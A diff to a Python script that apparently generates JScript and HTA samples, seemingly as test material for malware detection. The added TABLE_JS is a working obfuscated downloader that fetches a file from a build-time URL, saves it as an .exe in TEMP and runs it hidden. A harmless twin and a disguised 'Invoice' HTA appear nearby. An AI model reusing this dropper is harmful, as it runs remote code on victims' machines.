@@ -38,6 +38,34 @@ PIECES_JS = "var t = [];\n" + ''.join("t[%d] = '%s';\n" % (i, p) for i, p in enu
     ['note(', 'show(', 'if (a) {', 'go(', '};', 'list(', 'next(', 'for (;;) {', 'last(', 'ask(', 'tell(', 'end(', 'stop(', 'wait('])) + \
     "var q = ''; for (var i in t) q += t[i]; eval(q);\n"
 ODD_JS = ''.join("var xqzwkt%dr%d = %d;\n" % (i, i * 7, i) for i in range(40)) + "var u = given(xqzwkt1r7); eval(u + '');\n"
+# A table of words that is turned until a sum fits; each is asked for by a number, the file is named at run time.
+TABLE_JS = """var t = ['Run', 'ADODB.Stream', 'WScript.Shell', '%s', 'GET', '17kept', 'MSXML2.XMLHTTP', '%%TEMP%%', '25left', 'SaveToFile', 'send'];
+(function (a, n) {
+  while (true) {
+    try { if (parseInt(a[1]) + parseInt(a[9]) === n) break; a.push(a.shift()); } catch (e) { a.push(a.shift()); }
+  }
+})(t, 42);
+function w(i) { return t[(i ^ 5) %% t.length]; }
+function find(part) { for (var i = 0; i < t.length; i++) if (t[i].indexOf(part) >= 0) return t[i]; }
+var h = new ActiveXObject(find('HTTP')), c = new ActiveXObject(find('Shell')), f = new ActiveXObject(find('Stream'));
+h.open(find('GE'), find('://'), false); h[find('sen')]();
+if (h.status == 200) {
+  var p = c.ExpandEnvironmentStrings(find('EMP')) + '\\\\' + String.fromCharCode(110, 111, 116, 101) + '.e' + 'xe';
+  f.Open(); f.Type = 1; f.Write(h.ResponseBody); f[find('ToFile')](p, 2); f.Close();
+  c[find('Ru')](p, 0, false);
+}
+""" % URL
+# The same ways in a house: rates are fetched into a table, and nothing is run.
+RATES_JS = """var words = 'rates,csv,C:\\\\data'.split(',');
+function path(dir, name, kind) { return [dir, name + '.' + kind].join('\\\\'); }
+var to = path(words[2], words[0], words[1]);
+var fso = new ActiveXObject('Scripting.FileSystemObject');
+var out = fso.CreateTextFile(to, true);
+var rows = ['JPY', 'EUR', 'USD'].map(function (r, i) { return r + ',' + (i + 1) * 10; });
+out.Write(rows.join('\\r\\n'));
+out.Close();
+WScript.Echo('Written: ' + to);
+"""
 ENCODED_JSE = screnc.encode("var u = given(1); eval(u + '');\r\n")
 # What a page fetches stands in an element, back to front, and what it runs in numbers.
 PAGE_HTA = """<html><head><title>Invoice</title><hta:application id="a" windowstate="minimize" showintaskbar="no">
